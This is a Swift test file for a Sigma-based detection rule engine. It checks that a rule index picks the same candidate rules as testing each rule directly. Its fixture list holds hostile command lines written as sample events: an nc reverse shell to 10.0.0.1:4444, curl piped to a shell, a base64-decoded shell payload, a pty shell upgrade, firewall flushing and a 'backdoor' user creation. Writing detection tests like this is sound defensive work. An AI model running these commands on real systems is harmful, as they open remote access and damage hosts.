import ExecEvents
import Testing

@testable import RuleEngine

/// The index finds the rules filed under "any" from the guard texts an event holds, not by testing
/// each rule's guard; these tests compare that with testing each rule, over the Sigma corpus.
@Suite struct RuleIndexCandidateTests {
    /// Commands the corpus names and commands it does not, with paths of both kinds.
    private static let commands: [([String], String)] = [
        (["true"], "/usr/bin/true"),
        (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "/usr/bin/nc.openbsd"),
        (["sh", "-c", "echo aGk= | base64 -d | sh"], "/usr/bin/dash"),
        (["chmod", "+x", "/tmp/payload"], "/usr/bin/chmod"),
        (["bash", "-i"], "/usr/bin/bash"),
        (["crontab", "-r"], "/usr/bin/crontab"),
        (["python3", "-c", "import pty;pty.spawn('/bin/sh')"], "/usr/bin/python3.11"),
        (["iptables", "-F"], "/usr/sbin/xtables-legacy-multi"),
        (["curl", "-s", "http://x/a.sh", "|", "BASH"], "/usr/bin/curl"),
        (["wget", "--no-check-certificate", "-O", "/dev/shm/x"], "/usr/bin/wget"),
        (["sudo", "-u", "root", "/bin/sh"], "/usr/bin/sudo"),
        (["useradd", "-M", "-N", "backdoor"], "/usr/sbin/useradd"),
        (["git", "status"], "/usr/bin/git"),
        (["x"], "/tmp/.hidden/ncat"),
    ]

    /// The rules filed under "any": no event type, `procName`, `Image` or `ParentImage`
    /// requirement (every exec has them as candidates).
    private static func filedUnderAny(_ filter: FilterExpression) -> Bool {
        filter.requiredValues(of: .eventType) == nil && filter.requiredValues(of: .procName) == nil
            && filter.root.requiredProgramNames(readingOnly: RuleIndex.imagePaths) == nil
            && filter.root.requiredProgramNames(readingOnly: [.parentExePath]) == nil
    }

    @Test func candidatesAreTheRulesEachGuardAdmits() throws {
        let rules = try SigmaCorpusTests.load().rules
        let filters = rules.map(\.filter)
        let index = RuleIndex(filters.enumerated().map { ($0.offset, $0.element) })
        var buffer: [Int] = []
        var checked = 0
        for (argv, exe) in Self.commands {
            for invoked in [nil, "/usr/bin/" + argv[0]] {
                for parent in [nil, "/usr/bin/bash", "/usr/sbin/sshd"] {
                    let event = processEvent(image: exe, invoked: invoked, commandLine: argv, parentImage: parent)
                    var subject = FilterSubject(event, guards: index.guards)
                    index.candidates(for: &subject, into: &buffer)
                    #expect(buffer == Array(Set(buffer)).sorted(), "ascending, each once: \(argv)")
                    var each = FilterSubject(event, guards: index.guards)
                    for position in buffer {
                        #expect(index.mayMatch(position, &each), "\(argv): \(rules[position].id) not admitted")
                    }
                    for (position, filter) in filters.enumerated() {
                        let admitted = index.mayMatch(position, &each)
                        if Self.filedUnderAny(filter), admitted {
                            #expect(buffer.contains(position), "\(argv): \(rules[position].id) left out")
                        }
                        if rules[position].correlatedRules == nil, filter.matches(event) {
                            #expect(buffer.contains(position), "\(argv): \(rules[position].id) matches")
                        }
                        checked += 1
                    }
                }
            }
        }
        #expect(checked > 1000)
    }

    @Test func eachIdOfASetIsVisitedOnceInOrder() {
        var generator = SystemRandomNumberGenerator()
        for count in [0, 1, 2, 63, 64, 65, 127, 128, 129, 200] {
            for _ in 0..<20 {
                var set = LiteralOccurrences(count: count)
                var expected: [Int] = []
                for id in 0..<count where Bool.random(using: &generator) {
                    set.insert(id)
                    expected.append(id)
                }
                var visited: [Int] = []
                set.forEachMember { visited.append($0) }
                #expect(visited == expected)
            }
            var visited: [Int] = []
            LiteralOccurrences.all(count: count).forEachMember { if $0 < count { visited.append($0) } }
            #expect(visited == Array(0..<count))
        }
    }
}
